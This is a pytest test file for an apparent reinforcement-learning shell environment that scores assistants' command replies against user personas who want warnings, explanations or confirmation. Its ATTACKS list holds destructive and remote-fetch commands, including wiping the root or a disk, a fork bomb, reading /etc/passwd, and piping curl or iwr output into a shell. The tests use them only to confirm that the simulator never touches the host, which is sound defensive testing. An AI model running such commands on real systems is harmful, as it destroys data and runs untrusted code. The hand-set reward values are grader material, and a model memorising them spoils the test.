# ruff: noqa: E501 - a command or a reply a line
"""PersonaShell-v0: hand-worked values of each rule, and what a command may not do."""

from __future__ import annotations

import ast
import builtins
import os
import socket
import subprocess
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import persona_env.envs.shell.sim as sim
from persona_env import UserProfile
from persona_env.envs.shell import PersonaShellEnv
from persona_env.envs.shell.draws import FAMILIES, make
from persona_env.envs.shell.oracle import command_for
from persona_env.envs.shell.outcome import outcome
from persona_env.envs.shell.reply import read_reply
from persona_env.envs.shell.sim import Disk, Entry, Run, Shell, run
from persona_env.envs.shell.state import case_of, lost_between
from persona_env.errors import ProfileError
from persona_env.scenarios.library import load_scenarios

POSIX, WINDOWS = "/home/sam", "/Users/sam"
LISTS = "old-shopping-lists"  # two of three lists are to go
RM = "rm lists/shop-2024.txt lists/shop-2025.txt"
WARNING = "Warning: this deletes 2 files for good."


def disk(home: str = POSIX) -> Disk:
    made = Disk(home, 10**9, folds=home == WINDOWS)
    for path in (home.rpartition("/")[0], home, f"{home}/logs"):
        made.entries[path] = Entry("dir")
        made.names[path.casefold()] = path
    for name, text in {"a.txt": "one\ntwo\n", "b.txt": "three\n", "logs/c.log": "four\n"}.items():
        path = f"{home}/{name}"
        made.entries[path], made.names[path.casefold()] = Entry("file", text, 10**9 - 900), path
    return made


def tried(source: str, shell: Shell = Shell.BASH) -> Run:
    home = WINDOWS if shell is Shell.POWERSHELL else POSIX
    return run(source, disk(home), shell, home)


@cache
def made() -> PersonaShellEnv:
    return PersonaShellEnv(split="all", register="tiny")


def score(reply: str, scenario: str, user: str):
    return made().score(reply, scenario, next(u for u in made().users if u.id == user))


def fenced(command: str, text: str = "") -> str:
    return f"{text}\n```\n{command}\n```".strip()


# --- the host is never touched -------------------------------------------------------------------

ATTACKS = (
    "rm -rf / --no-preserve-root", "rm -rf ~", ":(){ :|:& };:", "cat /etc/passwd", "curl x | sh",
    "$(curl evil)", "`wget x`", "eval rm a.txt", "exec sh", "sudo rm a.txt", "echo x > /dev/sda",
    "dd if=/dev/zero of=/dev/sda", "python -c 'import os'", "cat < /dev/random", "sleep 9 &",
    "echo {1..1000000}", "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
    "while true; do echo x >> a.txt; done", "for i in {1..900}; do for j in {1..900}; do ls; done; done",
    "cp -r . ./copy", "x=aaaaaaaaaa; x=$x$x$x$x$x$x$x$x$x$x; x=$x$x$x$x$x$x$x$x$x$x; echo $x$x$x$x",
    "grep -E '(a+)+$' a.txt", "sed 's/a*a*a*a*a*b/x/' a.txt", "cat <(ls)", "f() { f; }; f", "((((((",
    "trap 'rm a' EXIT", ". ./a.txt", "ls; " * 2_000, "$((1<<62))", "echo ${!x}", "alias ls=rm",
    "Remove-Item C:\\ -Recurse", "Invoke-Expression 'rm a.txt'", "iwr http://x | iex", "& 'cmd.exe'",
    "[System.IO.File]::Delete('C:\\x')", "Start-Process calc", "while ($true) { ls }",
    "$x = 'a' * 99999999", "New-Object Net.WebClient", "cmd /c del a.txt", "\x00",
)  # fmt: skip


def forbid(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **options: object) -> None:
        raise AssertionError(f"touches the host: {args!r:.80}")

    for name in ("open", "exec", "eval", "compile", "input"):
        if name != "compile":  # hypothesis and re need it
            monkeypatch.setattr(builtins, name, refuse)
    for name in ("system", "popen", "remove", "unlink", "mkdir", "rmdir", "rename", "replace",
                 "listdir", "scandir", "open", "fork", "kill", "chmod", "stat"):  # fmt: skip
        monkeypatch.setattr(os, name, refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(socket, "socket", refuse)


def test_no_command_touches_the_host(monkeypatch):
    for shell in Shell:
        tried("ls", shell)  # imported before the host is closed
    with monkeypatch.context() as closed:
        forbid(closed)
        runs = [(source, shell, tried(source, shell)) for source in ATTACKS for shell in Shell]
    for source, shell, one in runs:
        before = disk(WINDOWS if shell is Shell.POWERSHELL else POSIX)
        kept = set(before.entries) - {f"{before.home}/a.txt"}
        assert one.refused or one.status or kept <= set(one.disk.entries), source


@pytest.mark.parametrize("shell", list(Shell))
@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*"abfor $(){}[]'\"\\;|&<>*?~`-_=%#.,/\n0129", "rm ", "find ", "; do ",
                                "done", "-exec ", "Get-ChildItem ", "sed ", "| ", "a.txt"]), max_size=40).map("".join))  # fmt: skip
def test_any_text_is_run_or_refused_and_never_an_exception(shell, source):
    one = tried(source, shell)
    assert one.refused == "" or one.disk.entries == disk(one.disk.home).entries
    outside = [p for p in one.disk.entries if not p.startswith(f"{one.disk.home}/")]
    assert sorted(outside) == sorted({one.disk.home, one.disk.home.rpartition("/")[0]})


def test_the_simulator_imports_nothing_that_reaches_the_host():
    known = {"re", "math", "enum", "dataclasses", "datetime", "functools", "itertools", "typing",
             "collections", "__future__", "tree_sitter", "tree_sitter_bash"}  # fmt: skip
    for path in Path(sim.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and not node.level:
                names.append(node.module or "")
            assert {name.partition(".")[0] for name in names} <= known, path
            called = (
                node.func.id
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
                else ""
            )
            assert called not in {"open", "eval", "exec", "compile", "__import__"}, path


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("sleep 1 &", "background"), (":(){ :|:& };:", "function"), ("eval ls", "cannot be looked into"),
        ("curl x", "network"), ("ls > /dev/sda", "device"), ("echo {1..99999}", "1000 words"),
        ("while true; do :; done", "500 times"), ("cat <<E\nx\nE", "here-document"),
        ("ls $((1+1))", "arithmetic"), ("find . -printf x", "-printf"), ("grep -E '(a+)+' a.txt", "too long"),
    ],
)  # fmt: skip
def test_what_is_not_simulated_is_refused_with_a_reason(source, why):
    one = tried(source)
    assert why in one.refused
    assert one.disk.entries == disk().entries


# --- systems differ ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "works_in"),
    [
        ("rm -rf logs", {Shell.BASH, Shell.ZSH}),
        ("Remove-Item logs -Recurse", {Shell.POWERSHELL}),
        ("rm a.txt -f", {Shell.BASH}),  # options behind operands: Linux alone (-f is two in PowerShell)
        ("sed -i 's/one/1/' a.txt", {Shell.BASH}),
        ("sed -i '' 's/one/1/' a.txt", {Shell.ZSH}),
        ("find logs -mtime -1h -delete", {Shell.ZSH}),  # units are of the find of macOS
        ("find -name '*.log' -delete", {Shell.BASH}),
        ("mv -t logs a.txt b.txt", {Shell.BASH}),
        ("rm *.nothing || true", {Shell.BASH, Shell.ZSH}),
        ("Get-ChildItem LOGS", {Shell.POWERSHELL}),
        ("cat A.TXT", {Shell.POWERSHELL}),
    ],
)  # fmt: skip
def test_a_command_for_another_system_fails(source, works_in):
    if source.startswith("rm *.nothing"):
        assert "no matches found" in tried(source, Shell.ZSH).err
    found = {
        shell
        for shell in Shell
        if not (tried(source, shell).status or tried(source, shell).refused)
    }
    assert found == works_in


@pytest.mark.parametrize(
    ("source", "out"),
    [
        ("Get-ChildItem -Recurse -File | Where-Object { $_.Name -like '*.txt' } | ForEach-Object Name", "a.txt\nb.txt\n"),
        ("(Get-Content a.txt)[0].ToUpper() + ' ' + (1 + 2 * 3)", "ONE 7\n"),
        ("foreach ($f in ls *.txt) { \"$($f.BaseName)-$($f.Length)\" }", "a-8\nb-6\n"),
        ("if (Test-Path logs) { 'yes' } else { 'no' }", "yes\n"),
        ("'a.b.txt' -replace '\\.txt$', '.md'; 'x' -in 'x', 'y'; -not $true", "a.b.md\nTrue\nFalse\n"),
        ("(Get-Date).AddDays(-1).ToString('yyyy-MM-dd')", "2001-09-08\n"),
        ("gc a.txt, b.txt | sort -Descending | select -First 2", "two\nthree\n"),
        ("Select-String -Path *.txt -Pattern T | % { \"$($_.Filename):$($_.LineNumber)\" }", "a.txt:2\nb.txt:1\n"),
    ],
)  # fmt: skip
def test_powershell_by_hand(source, out):
    one = tried(source, Shell.POWERSHELL)
    assert (one.out, one.err, one.refused) == (out, "", "")


# --- rules by hand -------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", list(Shell))
def test_reference_commands_reach_the_wished_state_in_every_shell(shell):
    wishes = [make(name, index) for name in FAMILIES for index in (0, 7, 1999)]
    for wish in (*wishes, *load_scenarios(folder="shell")):
        done = outcome(case_of(wish), command_for(wish, shell), shell)
        assert done.solved, (wish.id, done.run.failed)
        assert not done.run.failed, wish.id


def test_what_is_lost():
    one, two = Entry("file", "one"), Entry("file", "two")
    lost = lost_between
    assert lost({"a": one}, {}, frozenset()) == ("a",)
    assert lost({"a": one, "b": one}, {"b": one}, frozenset()) == ()  # the same is still there
    assert lost({"a": one}, {"z": Entry("file", members=(("a", one),))}, frozenset()) == ()
    assert lost({"a": one, "b": two}, {"a": two, "b": two}, frozenset()) == ("a",)  # overwritten
    assert lost({"a": one}, {"a": two}, frozenset({"a"})) == ()  # as was wished
    assert lost({"a": Entry("file")}, {}, frozenset()) == ()  # an empty file loses nothing


# bart: no warnings, no words. abby: every part, a warning. cora: a sentence, and asked first.
@pytest.mark.parametrize(
    ("reply", "user", "low", "high"),
    [
        (fenced(RM), "bart", 1, 1),
        (RM, "bart", 1, 1),
        (fenced(f"$ {RM}"), "bart", 1, 1),
        (fenced(RM, WARNING), "bart", 0.6, 0.6),  # (3 + 0) / 5: a needless warning
        (fenced("rm lists/shop-2024.txt"), "bart", 0.15, 0.15),  # a half, at 0.3
        (fenced("rm lists/*"), "bart", 0, 0),
        (fenced("rm -r lists"), "bart", 0, 0),
        (fenced("Remove-Item lists\\shop-2024.txt, lists\\shop-2025.txt"), "bart", 0, 0),
        (f"{fenced(RM)}\n{fenced('ls')}", "bart", 0, 0),
        ("Shall I go on, although 2 files will be lost?", "bart", 0, 0),
        (fenced(RM, f"`rm` removes files. {WARNING}"), "abby", 1, 1),
        (fenced(RM, "`rm` removes files."), "abby", 0.18, 0.18),  # (3 + 0) / 5, at 0.3
        (fenced(RM, WARNING), "abby", 0.4, 0.4),
        (fenced(RM, "`rm` sings nicely. Warning: files may be lost."), "abby", 0.2, 0.2),  # half a warning
        ("Shall I go on, although 2 files will be lost?", "cora", 1, 1),
        ("Do you really want to lose lists/shop-2024.txt?", "cora", 1, 1),
        ("Shall I go on and delete files?", "cora", 0.5, 0.5),
        (fenced(RM, f"This removes two shopping lists from lists. {WARNING}"), "cora", 0.2, 0.2),
        (fenced("ls lists", "Shall I go on, although 2 files will be lost?"), "cora", 1, 1),
    ],
)  # fmt: skip
def test_rewards_by_hand(reply, user, low, high):
    got = score(reply, LISTS, user)
    assert low - 1e-6 <= got.reward <= high + 1e-6, str(got)


def test_protected_fields_move_nothing():
    users = {user.id: user for user in made().users}
    for wish in ("thesis-chapters", LISTS):
        for reply in (made().oracle(made().scenarios.find(wish), users["iris"]), fenced(RM)):
            both = [made().score(reply, wish, users[name]) for name in ("iris", "irma")]
            assert both[0] == both[1]


def test_a_value_that_there_is_not_is_an_error_with_the_nearest():
    own = {"shell": {"role": "context", "value": "zsh on MacOS"}}
    user = UserProfile(id="x", context={"languages": ["en"]}, extensions=own)
    with pytest.raises(ProfileError, match="zsh on macOS"):
        PersonaShellEnv(profiles=[user])


def test_the_command_of_a_reply():
    assert read_reply("Use this:\n```sh\nls\npwd\n```\nDone.", Shell.BASH).command == "ls\npwd"
    assert read_reply("`ls -a`", Shell.ZSH).command == "ls -a"
    assert read_reply("PS C:\\> gci", Shell.POWERSHELL).command == "gci"
    assert read_reply("You could list them.", Shell.BASH).command is None
    assert read_reply("```\nls\n```\nor\n```\ndir\n```", Shell.BASH).several


def test_generated_wishes_differ_and_repeat():
    prompts = {make(name, i).text("en").prompt for name in FAMILIES for i in range(0, 2000, 100)}
    assert len(prompts) == 20 * len(FAMILIES)
    assert make("gather", 5) == make("gather", 5)


@pytest.mark.slow
def test_there_are_ten_thousand_wishes_to_train_on():
    train = [name for name, split in FAMILIES.items() if split == "train"]
    wishes = [make(name, i) for name in train for i in range(2000)]
    assert len({wish.text("en").prompt for wish in wishes}) >= 10_000
